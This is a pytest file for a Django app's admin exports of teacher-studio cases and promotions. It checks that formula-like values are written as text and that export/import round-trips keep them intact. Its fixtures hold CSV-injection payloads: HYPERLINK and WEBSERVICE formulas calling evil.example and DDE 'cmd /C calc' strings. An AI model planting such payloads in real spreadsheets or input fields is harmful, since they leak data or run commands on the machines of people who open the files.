"""Exports write formula-like titles, names and notes as text, and still re-import exactly."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from openpyxl import load_workbook

from cases.models import CasePage
from studios.models import StudioPage
from tests.factories import make_promotion, make_studio, promoter
from tests.outreach.builders import make_case

pytestmark = pytest.mark.django_db

CASE_VALUES = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "authors": "+王芳、李明",
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
}
HOST = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def hostile(site_tree):
    studio = make_studio("星火班主任工作室", school="贵阳市第一职业学校", host_name=HOST)
    case = make_case(studio, CASE_VALUES["title"], authors=CASE_VALUES["authors"], summary=CASE_VALUES["summary"])
    return studio, case


@pytest.fixture
def admin_client(client):
    client.force_login(get_user_model().objects.create_superuser("official", "o@example.cn", "pw"))
    return client


def download(client, url):
    response = client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def xlsx_cells(content):
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


def assert_text_cells(cells, values):
    found = {cell.value: cell for cell in cells if cell.value in values}
    assert set(found) == set(values)
    for value, cell in found.items():
        assert cell.data_type == "s", value  # not "f": no formula
        assert cell.quotePrefix, value  # and kept as text when edited in a spreadsheet


def csv_values(content):
    return {value for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for value in row}


def test_report_downloads_write_formula_like_values_as_text(admin_client, hostile):
    cases = download(admin_client, "/admin/reports/outreach/cases/?export=xlsx")
    assert_text_cells(xlsx_cells(cases), CASE_VALUES.values())
    studios = download(admin_client, "/admin/reports/outreach/studios/?export=xlsx")
    assert_text_cells(xlsx_cells(studios), [HOST])

    values = csv_values(download(admin_client, "/admin/reports/outreach/cases/?export=csv"))
    values |= csv_values(download(admin_client, "/admin/reports/outreach/studios/?export=csv"))
    for value in [*CASE_VALUES.values(), HOST]:
        assert "'" + value in values and value not in values


def test_promotion_export_writes_notes_as_text(admin_client, hostile):
    _studio, case = hostile
    make_promotion(case, "ministry", note='=WEBSERVICE("http://evil.example/")', batch="+第一批")
    base = "/admin/snippets/promotions/promotion/"
    assert_text_cells(
        xlsx_cells(download(admin_client, base + "?export=xlsx")), ['=WEBSERVICE("http://evil.example/")']
    )
    values = csv_values(download(admin_client, base + "?export=csv"))
    assert '\'=WEBSERVICE("http://evil.example/")' in values and "'+第一批" in values


def test_the_export_import_round_trip_keeps_such_values_exactly(tmp_path, hostile):
    call_command("export_studios", str(tmp_path / "studios.xlsx"), stdout=io.StringIO())
    call_command("export_cases", str(tmp_path / "cases"), stdout=io.StringIO())
    for case in CasePage.objects.all():
        case.delete()
    for studio in StudioPage.objects.all():
        studio.delete()

    call_command("import_studios", str(tmp_path / "studios.xlsx"), stdout=io.StringIO())
    by = promoter().username
    call_command("import_cases", str(tmp_path / "cases"), "--by", by, stdout=io.StringIO())
    case = CasePage.objects.get()
    assert {name: getattr(case, name) for name in CASE_VALUES} == CASE_VALUES
    assert StudioPage.objects.get().host_name == HOST
